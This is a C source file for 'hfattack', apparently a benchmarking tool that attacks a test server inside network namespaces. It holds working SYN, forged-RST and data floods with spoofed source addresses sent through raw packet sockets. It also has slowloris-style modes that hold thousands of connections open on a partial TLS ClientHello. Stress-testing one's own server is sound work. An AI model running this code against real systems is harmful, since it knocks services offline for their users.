/* hfattack -- what bench/attack.sh does to a server in namespaces of its own making; for nothing else.
 *   hfattack syn|rst|data RATE SECONDS INTERFACE MAC SOURCE[/BITS] ADDRESS:PORT
 *     frames past the kernel, RATE a second, from random addresses of SOURCE and random ports:
 *     SYNs; resets with random numbers; segments of 512 bytes with random numbers
 *   hfattack hold|drip COUNT SECONDS ADDRESS:PORT
 *     COUNT connections by the kernel, each opened again when the other side ends it. hold: the first
 *     half of a ClientHello, and then nothing; drip: a byte of it a second
 * Ends by itself after SECONDS, or when it is asked to, and says on standard output what it did. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netpacket/packet.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64u
#define SECONDS_MAX 60u
#define COUNT_MAX 20000u
#define RATE_MAX 1000000u
#define DATA_LEN 512u
#define HELLO_LEN 200u
#define OPENING_MAX 200u /* connections on their way at a time */

static uint64_t seed = 88172645463325252u;

static uint32_t rnd(void)
{
	seed ^= seed << 13; /* xorshift64 (Marsaglia 2003) */
	seed ^= seed >> 7;
	seed ^= seed << 17;
	return (uint32_t)(seed >> 16);
}

static volatile sig_atomic_t over;

static void end(int sig)
{
	(void)sig;
	over = 1;
}

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void die(const char *what)
{
	fprintf(stderr, "hfattack: %s: %s\n", what, errno ? strerror(errno) : "no such thing");
	exit(2);
}

static unsigned number(const char *s, unsigned max)
{
	unsigned long v = strtoul(s, NULL, 10);
	if (v == 0 || v > max)
		die(s);
	return (unsigned)v;
}

static struct sockaddr_in endpoint(char *s)
{
	struct sockaddr_in a = {.sin_family = AF_INET};
	char *colon = strchr(s, ':');
	if (!colon)
		die(s);
	*colon = 0;
	if (inet_pton(AF_INET, s, &a.sin_addr) != 1)
		die(s);
	a.sin_port = htons((uint16_t)number(colon + 1, 65535));
	return a;
}

/* ---- frames ---- */
struct source {
	uint32_t net, mask; /* host order */
};

static void put16(uint8_t *p, unsigned v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void put32(uint8_t *p, uint32_t v)
{
	put16(p, v >> 16);
	put16(p + 2, v & 0xffff);
}

static uint32_t sum(const uint8_t *p, size_t len, uint32_t s)
{
	for (; len > 1; p += 2, len -= 2)
		s += (uint32_t)p[0] << 8 | p[1];
	return s;
}

static unsigned fold(uint32_t s)
{
	s = (s & 0xffff) + (s >> 16);
	return 0xffffu & ~((s & 0xffff) + (s >> 16));
}

/* flags and options of the kind; what differs between frames is random. Returns the length. */
static size_t frame(uint8_t *f, char kind, struct source src, const struct sockaddr_in *dst)
{
	static const uint8_t options[20] = {
		2, 4, 5, 0xb4, 4, 2, 8, 10, 1, 2, 3, 4, 0, 0, 0, 0, 1, 3, 3, 7};
	size_t opt = kind == 's' ? sizeof(options) : 0, data = kind == 'd' ? DATA_LEN : 0;
	size_t tcp_len = 20 + opt + data;
	uint8_t *ip = f + 14, *tcp = ip + 20;
	uint32_t to = ntohl(dst->sin_addr.s_addr), pseudo;
	memset(ip, 0, 40);
	ip[0] = 0x45;
	put16(ip + 2, (unsigned)(20 + tcp_len));
	put16(ip + 6, 0x4000);
	ip[8] = 64;
	ip[9] = 6;
	put32(ip + 12, src.net | (rnd() & ~src.mask));
	put32(ip + 16, to);
	put16(ip + 10, fold(sum(ip, 20, 0)));
	put16(tcp, 2048 + rnd() % 63000);
	put16(tcp + 2, ntohs(dst->sin_port));
	put32(tcp + 4, rnd());
	put32(tcp + 8, kind == 'd' ? rnd() : 0);
	tcp[12] = (uint8_t)((20 + opt) / 4 << 4);
	tcp[13] = kind == 's' ? 2 : kind == 'r' ? 4 : 0x18;
	put16(tcp + 14, 64240);
	memcpy(tcp + 20, options, opt);
	pseudo = sum(ip + 12, 8, 6 + (uint32_t)tcp_len);
	put16(tcp + 16, fold(sum(tcp, tcp_len, pseudo)));
	return 14 + 20 + tcp_len;
}

static int spray(char **argv)
{
	static uint8_t bytes[BATCH][1514];
	struct iovec iov[BATCH];
	struct mmsghdr msg[BATCH] = {0};
	unsigned rate = number(argv[2], RATE_MAX), seconds = number(argv[3], SECONDS_MAX),
		 bits = 32, m[6];
	struct sockaddr_ll to = {
		.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(argv[4])};
	struct sockaddr_in dst = endpoint(argv[7]);
	struct in_addr net;
	struct source src;
	char *slash = strchr(argv[6], '/');
	int fd = socket(AF_PACKET, SOCK_RAW, 0);
	double begin, t;
	uint64_t sent = 0, failed = 0;
	if (fd < 0 || to.sll_ifindex == 0 || bind(fd, (void *)&to, sizeof(to)))
		die(argv[4]);
	if (sscanf(argv[5], "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != 6)
		die(argv[5]);
	if (slash) {
		*slash = 0;
		bits = number(slash + 1, 32);
	}
	if (inet_pton(AF_INET, argv[6], &net) != 1)
		die(argv[6]);
	src.mask = bits == 32 ? UINT32_MAX : ~(UINT32_MAX >> bits);
	src.net = ntohl(net.s_addr) & src.mask;
	for (unsigned i = 0; i < BATCH; i++) {
		static const uint8_t from[6] = {2, 0, 0, 0, 0, 0x66};
		for (unsigned k = 0; k < 6; k++)
			bytes[i][k] = (uint8_t)m[k];
		memcpy(bytes[i] + 6, from, 6);
		bytes[i][12] = 8;
		iov[i].iov_base = bytes[i];
		msg[i].msg_hdr.msg_iov = &iov[i];
		msg[i].msg_hdr.msg_iovlen = 1;
	}
	begin = now();
	while ((t = now() - begin) < seconds && !over) {
		int n;
		if ((double)(sent + failed) > t * rate) {
			usleep(200);
			continue;
		}
		for (unsigned i = 0; i < BATCH; i++)
			iov[i].iov_len = frame(bytes[i], argv[1][0], src, &dst);
		n = sendmmsg(fd, msg, BATCH, 0);
		sent += n > 0 ? (unsigned)n : 0;
		failed += BATCH - (n > 0 ? (unsigned)n : 0);
	}
	printf("%s: %.0f a second\n", argv[1], (double)sent / t);
	return 0;
}

/* ---- connections ---- */
struct conn {
	int fd;
	bool open;
	unsigned said;
};

static void start(struct conn *c, int ep, unsigned i, const struct sockaddr_in *dst)
{
	struct epoll_event e = {.events = EPOLLOUT | EPOLLIN | EPOLLRDHUP, .data.u32 = i};
	*c = (struct conn){.fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0)};
	if (c->fd < 0)
		die("socket");
	if (connect(c->fd, (const void *)dst, sizeof(*dst)) && errno != EINPROGRESS) {
		close(c->fd);
		c->fd = -1;
		return;
	}
	epoll_ctl(ep, EPOLL_CTL_ADD, c->fd, &e);
}

static void stop(struct conn *c)
{
	struct linger now_please = {1, 0};
	setsockopt(c->fd, SOL_SOCKET, SO_LINGER, &now_please, sizeof(now_please));
	close(c->fd);
	c->fd = -1;
	c->open = false;
}

static int hold(char **argv)
{
	static struct conn conn[COUNT_MAX];
	static uint8_t hello[HELLO_LEN] = {
		22, 3, 1, 0, HELLO_LEN - 5, 1, 0, 0, HELLO_LEN - 9, 3, 3};
	unsigned cnt = number(argv[2], COUNT_MAX), seconds = number(argv[3], SECONDS_MAX), at = 0;
	unsigned first = argv[1][0] == 'h' ? HELLO_LEN / 2 : 1, opening = 0, most = 0, open_cnt = 0;
	struct sockaddr_in dst = endpoint(argv[4]);
	struct epoll_event e[256];
	uint64_t opened = 0;
	int ep = epoll_create1(0);
	double begin = now(), tick = begin, t;
	for (unsigned i = 0; i < cnt; i++)
		conn[i].fd = -1;
	while ((t = now()) - begin < seconds && !over) {
		int n;
		for (unsigned k = 0; k < cnt && opening < OPENING_MAX; k++, at = (at + 1) % cnt)
			if (conn[at].fd < 0) {
				start(&conn[at], ep, at, &dst);
				opening += conn[at].fd >= 0;
			}
		n = epoll_wait(ep, e, 256, 10);
		for (int k = 0; k < n; k++) {
			struct conn *c = &conn[e[k].data.u32];
			struct epoll_event in = {
				.events = EPOLLIN | EPOLLRDHUP, .data.u32 = e[k].data.u32};
			if (e[k].events & (EPOLLIN | EPOLLRDHUP | EPOLLERR | EPOLLHUP)) {
				opening -= !c->open;
				open_cnt -= c->open;
				stop(c);
			} else if (!c->open) {
				opening--;
				open_cnt++;
				opened++;
				c->open = true;
				c->said = first;
				(void)!send(c->fd, hello, first, MSG_NOSIGNAL);
				epoll_ctl(ep, EPOLL_CTL_MOD, c->fd, &in);
			}
		}
		most = open_cnt > most ? open_cnt : most;
		if (argv[1][0] != 'd' || t - tick < 1)
			continue;
		tick = t;
		for (unsigned i = 0; i < cnt; i++)
			if (conn[i].open && conn[i].said < HELLO_LEN - 1)
				(void)!send(conn[i].fd, hello + conn[i].said++, 1, MSG_NOSIGNAL);
	}
	printf("%s: %u open at the end, %u at most, %llu opened\n", argv[1], open_cnt, most,
		(unsigned long long)opened);
	return 0;
}

int main(int argc, char **argv)
{
	static const char *const kind[] = {"syn", "rst", "data", "hold", "drip"};
	signal(SIGTERM, end);
	for (unsigned i = 0; argc > 1 && i < 5; i++)
		if (strcmp(argv[1], kind[i]) == 0 && argc == (i < 3 ? 8 : 5))
			return i < 3 ? spray(argv) : hold(argv);
	fprintf(stderr, "usage: see bench/attack/main.c\n");
	return 2;
}
